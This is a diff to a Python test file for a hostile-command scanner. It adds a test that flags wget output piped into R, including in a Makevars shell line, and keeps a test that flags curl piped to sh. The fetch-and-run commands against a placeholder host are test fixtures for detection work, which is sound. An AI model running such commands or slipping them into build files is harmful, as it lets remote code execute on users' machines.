@@ -204,3 +204,9 @@ def test_what_sets_off_code_in_prose_puts_nothing_in() -> None:
     ]
     assert hostile_command("\n".join(prose)) is None
     assert hostile_command("```\ncurl -s http://x.invalid/a | sh\n```\n") is not None
+
+
+def test_r_runs_what_it_is_piped() -> None:
+    assert verdict_of_text("src/Makevars", "X = $(shell wget -qO- http://x.invalid/a | R --slave)\n") is Verdict.MALICIOUS
+    assert verdict_of_text("a.sh", "wget -qO- http://x.invalid/a | R --no-save\n") is Verdict.MALICIOUS
+    assert verdict_of_text("src/Makevars", "PKG_LIBS = $(shell R --slave -e 'cat(R.home())')\n") is Verdict.SAFE
